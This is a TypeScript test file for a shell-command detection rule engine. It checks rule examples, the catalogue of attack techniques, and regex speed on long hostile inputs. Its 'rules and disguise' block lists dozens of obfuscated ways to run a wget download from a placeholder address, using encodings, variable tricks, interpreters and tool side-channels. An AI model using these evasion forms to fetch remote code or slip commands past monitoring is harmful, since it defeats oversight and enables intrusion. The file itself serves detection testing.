import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { readShell } from '../shell/read-shell.ts';
import { loadRules } from './load-rules.ts';
import { type Condition, toPattern } from './rule.ts';

const folder = new URL('../../../../policy/attack/', import.meta.url).pathname;
const { rules, match } = loadRules(folder);
const catalogue = z
  .object({ techniques: z.array(z.object({ id: z.string() })) })
  .parse(JSON.parse(readFileSync(`${folder}catalogue.json`, 'utf8')));
const known = new Set(catalogue.techniques.map(({ id }) => id));

const hits = (line: string) => match(readShell(line)).map(({ rule }) => rule.id);

describe.each(rules.map((rule) => [rule.id, rule] as const))('rule %s', (id, rule) => {
  it.each(rule.matches)('answers its example %s', (line) => {
    expect(hits(line)).toContain(id);
  });

  it.each(rule.ignores)('leaves alone what only looks alike: %s', (line) => {
    expect(hits(line)).not.toContain(id);
  });

  it('names techniques that the catalogue has', () => {
    expect(rule.techniques.filter((technique) => !known.has(technique))).toEqual([]);
  });
});

it('no line is the example of two gravities: it would be a training line with two labels', () => {
  const gravities = new Map<string, Set<string>>();
  for (const { matches, gravity } of rules)
    for (const line of matches) gravities.set(line, (gravities.get(line) ?? new Set()).add(gravity));
  expect([...gravities].filter(([, told]) => told.size > 1)).toEqual([]);
});

describe('rules and disguise', () => {
  it.each([
    ['wget http://192.0.2.1/a', 'download'],
    ['w""get http://192.0.2.1/a', 'download'],
    ["w'g'et http://192.0.2.1/a", 'download'],
    ['w\\get http://192.0.2.1/a', 'download'],
    ['/usr/bin/wget http://192.0.2.1/a', 'download'],
    ['busybox wget http://192.0.2.1/a', 'download'],
    ['sudo -n nohup wget http://192.0.2.1/a &', 'download'],
    ["$'\\x77\\x67\\x65\\x74' http://192.0.2.1/a", 'download'],
    ['$(echo d2dldA==|base64 -d) http://192.0.2.1/a', 'download'],
    ["$(printf '\\167get') http://192.0.2.1/a", 'download'],
    ['a=wg;b=et;$a$b http://192.0.2.1/a', 'download'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's own way to write a blank.
    ['wget${IFS}http://192.0.2.1/a', 'download'],
    ["sh -c 'wget http://192.0.2.1/a'", 'download'],
    ['bash <<EOF\nwget http://192.0.2.1/a\nEOF', 'download'],
    ['echo "wget http://192.0.2.1/a" | sh', 'download'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | bash', 'download'],
    ['echo 7767657420687474703a2f2f3139322e302e322e312f61 | xxd -r -p | sh', 'download'],
    [`python3 -c 'import os; os.system("wget http://192.0.2.1/a")'`, 'download'],
    [`perl -e 'system("wget http://192.0.2.1/a")'`, 'download'],
    ['eval "$(echo jtrg uggc://192.0.2.1/n | tr a-z n-za-m)"', 'download'],
    ['cd /tmp || cd /var/run && { wget http://192.0.2.1/a; }', 'download'],
    ['if true; then wget http://192.0.2.1/a; fi', 'download'],
    ['/u?r/b?n/wge? http://192.0.2.1/a', 'download'],
    ['{wget,http://192.0.2.1/a}', 'download'],
    ['w{g,}et http://192.0.2.1/a; wg$@et http://192.0.2.1/a', 'download'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell again, here and below.
    ['a=xwgety; ${a:1:4} http://192.0.2.1/a', 'download'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: see above.
    ['a=WQGQET; b=${a//Q/}; ${b,,} http://192.0.2.1/a', 'download'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: see above.
    ['a=(et wg); ${a[1]}${a[0]} http://192.0.2.1/a', 'download'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: see above.
    ['x=wget; y=x; ${!y} http://192.0.2.1/a', 'download'],
    ['export a=wg; a+=et; $a http://192.0.2.1/a', 'download'],
    ["printf -v a '%s' wget; $a http://192.0.2.1/a", 'download'],
    ['read a <<< wget; $a http://192.0.2.1/a', 'download'],
    ['set -- wget http://192.0.2.1/a; "$@"', 'download'],
    ['f(){ "$@"; }; f wget http://192.0.2.1/a', 'download'],
    ["alias g='wget -q'; g http://192.0.2.1/a", 'download'],
    ["bash -c '$0 $1' wget http://192.0.2.1/a", 'download'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x', 'download'],
    ["echo 'wget http://192.0.2.1/a' > x; sh x", 'download'],
    ['bash <(echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d)', 'download'],
    ['bash<<<$(base64 -d<<<d2dldCBodHRwOi8vMTkyLjAuMi4xL2E=)', 'download'],
    ['openssl enc -d -base64 -A <<< d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | sh', 'download'],
    ['echo O5TWK5BANB2HI4B2F4XTCOJSFYYC4MROGEXWC=== | base32 -d | sh', 'download'],
    ["echo 'WQGQEQT HTTP://192.0.2.1/A' | sed 's/Q//g' | tr '[:upper:]' '[:lower:]' | sh", 'download'],
    ['$(echo xxwget | cut -c3-6) http://192.0.2.1/a', 'download'],
    ['awk \'BEGIN{printf "\\x77\\x67\\x65\\x74 http://192.0.2.1/a"}\' | sh', 'download'],
    [
      "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnd2dldCBodHRwOi8vMTkyLjAuMi4xL2EnKQ=='))\"",
      'download',
    ],
    ["python3 -c \"import subprocess;subprocess.call(['wget','http://192.0.2.1/a'])\"", 'download'],
    [
      "python3 -c \"import os;os.system(''.join(chr(c) for c in [119,103,101,116])+' http://192.0.2.1/a')\"",
      'download',
    ],
    ['perl -e \'system(pack("H*","7767657420687474703a2f2f3139322e302e322e312f61"))\'', 'download'],
    ['ruby -e \'system ["7767657420687474703a2f2f3139322e302e322e312f61"].pack("H*")\'', 'download'],
    ['php -r \'system(base64_decode("d2dldCBodHRwOi8vMTkyLjAuMi4xL2E="));\'', 'download'],
    [
      "node -e \"require('child_process').exec(Buffer.from('d2dldCBodHRwOi8vMTkyLjAuMi4xL2E=','base64').toString())\"",
      'download',
    ],
    ['echo http://192.0.2.1/a | xargs wget', 'download'],
    ["echo 'wget http://192.0.2.1/a' | at now", 'download'],
    ['exec -a sshd wget http://192.0.2.1/a', 'download'],
    ["env -S 'wget http://192.0.2.1/a'", 'download'],
    ['flock /tmp/l setarch x86_64 wget http://192.0.2.1/a', 'download'],
    ['/lib64/ld-linux-x86-64.so.2 /usr/bin/wget http://192.0.2.1/a', 'download'],
    ['unshare -r chroot /mnt wget http://192.0.2.1/a', 'download'],
    ["vim -c ':!wget http://192.0.2.1/a'", 'download'],
    ["tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='wget http://192.0.2.1/a'", 'download'],
    ["ssh -o ProxyCommand='wget http://192.0.2.1/a' x", 'download'],
    ['for c in wget curl; do $c http://192.0.2.1/a; done', 'download'],
  ])('%s is seen through', (line, rule) => {
    expect(hits(line)).toContain(rule);
  });
});

describe('rules against hostile text', () => {
  const units = ['a', '/', ' ', 'x:', 'a ', '0', '-a ', '../', '\\x41', 'a@b:c ', 'a.', 'https://', '$a ', 'tmp/.'];
  const starts = ['', 'scp ', 'curl https:// ', '/etc/', 'openssl enc '];
  const texts = starts.flatMap((start) => units.map((unit) => `${start}${unit.repeat(2048)}`.slice(0, 2048)));

  // Patterns that backtrack took 3,000 ms on such texts; sound ones take less than 1 ms. What the thread worked is counted: on a busy
  // machine it may have to wait.
  it('no pattern needs more than 250 ms for a text of the longest kind that it is asked about', () => {
    const slow = rules.flatMap(({ id, when }) =>
      patternsOf(when)
        .filter((pattern) => texts.some((text) => millisecondsOf(toPattern(pattern), text) > 250))
        .map((pattern) => `${id}: ${pattern}`),
    );
    expect(slow).toEqual([]);
  });

  function millisecondsOf(pattern: RegExp, text: string): number {
    const before = process.threadCpuUsage();
    pattern.test(text);
    return process.threadCpuUsage(before).user / 1000;
  }

  /** Every pattern of a condition but those for names, which are asked about 128 characters at most. */
  function patternsOf({
    name: _name,
    via: _via,
    into: _into,
    from: _from,
    known: _known,
    line,
    any,
    not,
    ...texts
  }: Condition): string[] {
    const inner = [line, not, ...(any ?? [])].flatMap((one) => (one === undefined ? [] : patternsOf(one)));
    return [...Object.values(texts).flatMap((one) => (one === undefined ? [] : [one].flat())), ...inner];
  }
});
